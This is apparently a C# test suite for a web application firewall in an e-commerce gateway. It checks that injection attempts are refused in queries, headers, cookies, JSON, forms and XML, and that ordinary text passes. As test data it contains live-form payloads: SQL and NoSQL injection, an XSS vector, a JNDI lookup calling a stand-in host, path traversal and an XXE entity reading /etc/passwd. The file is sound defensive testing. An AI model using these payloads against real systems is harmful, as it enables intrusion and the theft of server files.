using System.Net;
using System.Text;
using SecureShop.Gateway.Events;
using SecureShop.ServiceDefaults.Access;
using SecureShop.Testing;

namespace SecureShop.Gateway.Tests;

/// <summary>Attacks are refused wherever in a request they are, and ordinary text is served; what a rule is has tests of its own.</summary>
[Trait("Practice", "P31")]
public sealed class FirewallTests(SharedGateway gateway) : IClassFixture<SharedGateway>
{
    private const string Attack = "' or 1=1--";

    private readonly GatewayHost host = gateway.Host;

    [Theory]
    [InlineData("query")]
    [InlineData("name in the query")]
    [InlineData("Base64 in the query")]
    [InlineData("path")]
    [InlineData("header")]
    [InlineData("user agent")]
    [InlineData("cookie")]
    [InlineData("JSON")]
    [InlineData("name in JSON")]
    [InlineData("escapes in JSON")]
    [InlineData("JSON in JSON")]
    [InlineData("form")]
    [InlineData("name in a form")]
    [InlineData("multipart form")]
    [InlineData("file name")]
    [InlineData("XML")]
    public async Task An_attack_is_refused_and_leaves_one_event_without_its_text(string place)
    {
        host.Events.Clear();
        using var answer = await SendAsync(place);
        await ProblemAssert.IsProblemAsync(HttpStatusCode.Forbidden, answer);
        var refused = Assert.Single(host.Events.All);
        Assert.Equal((2006, GatewayRefusal.Firewall), (refused.Id, refused["Reason"]));
        Assert.DoesNotContain("1=1", $"{refused["Rules"]} {refused["Fields"]} {await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken)}", StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(71)]
    [InlineData(4_089)]
    [InlineData(15_000)]
    public async Task A_boundary_of_any_length_breaks_nothing_and_hides_nothing(int length)
    {
        host.Events.Clear();

        // What cannot be read as parts is read as the text that it is, with the headers of the parts in it.
        using var harmless = await PostAsync("Ada");
        Assert.Equal(length < 4_000 ? HttpStatusCode.OK : HttpStatusCode.Forbidden, harmless.StatusCode);
        using var attack = await PostAsync(Attack);
        Assert.Equal(HttpStatusCode.Forbidden, attack.StatusCode);

        async Task<HttpResponseMessage> PostAsync(string text)
        {
            var boundary = new string('b', length);
            using var content = new StringContent($"--{boundary}\r\nContent-Disposition: form-data; name=\"Name\"\r\n\r\n{text}\r\n--{boundary}--\r\n");
            content.Headers.Remove("Content-Type");
            Assert.True(content.Headers.TryAddWithoutValidation("Content-Type", $"multipart/form-data; boundary={boundary}"));
            return await GatewayHost.SendAsync(host.Identity, HttpMethod.Post, "/account/login", content: content);
        }
    }

    [Theory]
    [InlineData("/api/catalog/products?q=O%27Brien%20%26%20sons;%20select%20one%20from%20the%20list")]
    [InlineData("/api/catalog/products?q=cat%20and%20dog;%20grep&limit=3")]
    [InlineData("/api/catalog/products/01980000-0000-7000-8000-000000000001")]
    public async Task Ordinary_text_is_served(string path)
    {
        host.Events.Clear();
        using var answer = await host.GetAsync(path);
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        Assert.Empty(host.Events.All);
    }

    [Fact]
    public async Task An_ordinary_body_reaches_its_service_whole()
    {
        await using var echo = await GatewayHost.StartAsync(async (_, context) =>
        {
            context.Response.ContentType = "text/plain";
            await context.Request.Body.CopyToAsync(context.Response.Body);
        });
        var sent = $$"""{"name":"O'Brien's lamp","description":"It's 5' tall; \"best\" of 2 & more","long":"{{new string('x', 20_000)}}"}""";
        using var answer = await PostJsonAsync(echo, sent);
        Assert.Equal(sent, await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
    }

    [Fact]
    public async Task A_sign_in_with_a_password_like_an_attack_passes_and_its_other_fields_do_not()
    {
        async Task<HttpStatusCode> PostAsync(string email, string password)
        {
            using var form = new FormUrlEncodedContent([new("Email", email), new("Password", password), new("ReturnUrl", "/connect/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A5000%2Fcb")]);
            using var answer = await host.Identity.PostAsync("/account/login", form, TestContext.Current.CancellationToken);
            return answer.StatusCode;
        }

        Assert.Equal(HttpStatusCode.OK, await PostAsync("alice@example.com", "<script>' or 1=1--$(id)"));
        Assert.Equal(HttpStatusCode.Forbidden, await PostAsync("alice@example.com' or '1'='1", "x"));
    }

    [Fact]
    public async Task Where_it_only_watches_a_hit_is_an_event_and_the_request_is_served()
    {
        await using var watching = await GatewayHost.StartAsync(settings: ("Firewall:DetectOnly:0", "/api/catalog"));
        using var answer = await watching.GetAsync($"/api/catalog/products?q={Uri.EscapeDataString(Attack)}");
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        Assert.Equal((2007, "QueryValue:q"), (Assert.Single(watching.Events.All).Id, watching.Events.All.Single()["Fields"]));

        using var elsewhere = await watching.Identity.GetAsync($"/account/login?x={Uri.EscapeDataString(Attack)}", TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.Forbidden, elsewhere.StatusCode);
    }

    [Fact]
    public async Task An_excluded_field_is_not_judged_by_the_rule_and_others_are()
    {
        await using var excluding = await GatewayHost.StartAsync(
            settings: [("Firewall:Exclusions:0:Path", "/api/catalog"), ("Firewall:Exclusions:0:Field", "q"), ("Firewall:Exclusions:0:Rule", "sql")]);
        async Task<HttpStatusCode> GetAsync(string query)
        {
            using var answer = await excluding.GetAsync($"/api/catalog/products?{query}");
            return answer.StatusCode;
        }

        Assert.Equal(HttpStatusCode.OK, await GetAsync($"q={Uri.EscapeDataString(Attack)}"));
        Assert.Equal(HttpStatusCode.Forbidden, await GetAsync($"r={Uri.EscapeDataString(Attack)}"));
        Assert.Equal(HttpStatusCode.Forbidden, await GetAsync($"q={Uri.EscapeDataString("<svg/onload=alert(1)>")}"));
    }

    [Theory]
    [InlineData("Firewall:Level", "5")]
    [InlineData("Firewall:DetectOnly:0", "api")]
    [InlineData("Firewall:Exclusions:0:Rule", "sql")]
    public async Task A_wrong_setting_stops_the_start(string key, string value)
        => Assert.Contains("Set Firewall__", (await Assert.ThrowsAnyAsync<Exception>(() => GatewayHost.StartAsync(settings: (key, value)))).ToString(), StringComparison.Ordinal);

    private Task<HttpResponseMessage> SendAsync(string place)
    {
        const string Products = "/api/catalog/products";
        var escaped = Uri.EscapeDataString(Attack);
        return place switch
        {
            "query" => host.GetAsync($"{Products}?q={escaped}"),
            "name in the query" => host.GetAsync($"{Products}?price[$gt]=1"),
            "Base64 in the query" => host.GetAsync($"{Products}?q={Uri.EscapeDataString(Convert.ToBase64String(Encoding.UTF8.GetBytes(Attack)))}"),
            "path" => host.Identity.GetAsync("/.git/config", TestContext.Current.CancellationToken),
            "header" => host.SendAsync(HttpMethod.Get, Products, headers: ("X-Custom", Attack)),
            "user agent" => host.SendAsync(HttpMethod.Get, Products, headers: ("User-Agent", "${jndi:ldap://evil.example/a}")),
            "cookie" => host.SendAsync(HttpMethod.Get, Products, headers: ("Cookie", "theme=<svg/onload=alert(1)>")),
            "JSON" => PostJsonAsync(host, $$"""{"name":"{{Attack}}"}"""),
            "name in JSON" => PostJsonAsync(host, """{"name":{"$gt":""}}"""),
            "escapes in JSON" => PostJsonAsync(host, """{"name":"\u0027 or 1=1--"}"""),
            "JSON in JSON" => PostJsonAsync(host, """{"name":"{\"a\":\"\\u0027 or 1=1--\"}"}"""),
            "form" => PostFormAsync(new FormUrlEncodedContent([new("Email", Attack)])),
            "name in a form" => PostFormAsync(new FormUrlEncodedContent([new("user[$ne]", "x")])),
            "multipart form" => PostFormAsync(new MultipartFormDataContent { { new StringContent(Attack), "Email" } }),
            "file name" => PostFormAsync(new MultipartFormDataContent { { new StringContent("x"), "file", "../../etc/passwd" } }),
            "XML" => PostFormAsync(new StringContent("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", Encoding.UTF8, "application/xml")),
            _ => throw new ArgumentOutOfRangeException(nameof(place), place, "Not known."),
        };
    }

    private Task<HttpResponseMessage> PostFormAsync(HttpContent content) => host.Identity.PostAsync("/account/profile", content, TestContext.Current.CancellationToken);

    private static Task<HttpResponseMessage> PostJsonAsync(GatewayHost gateway, string json)
        => gateway.SendAsync(HttpMethod.Post, "/api/orders", TestTokens.Create("orders", "alice", [Scope.OrdersWrite], [Role.Customer]), new StringContent(json, Encoding.UTF8, "application/json"));
}
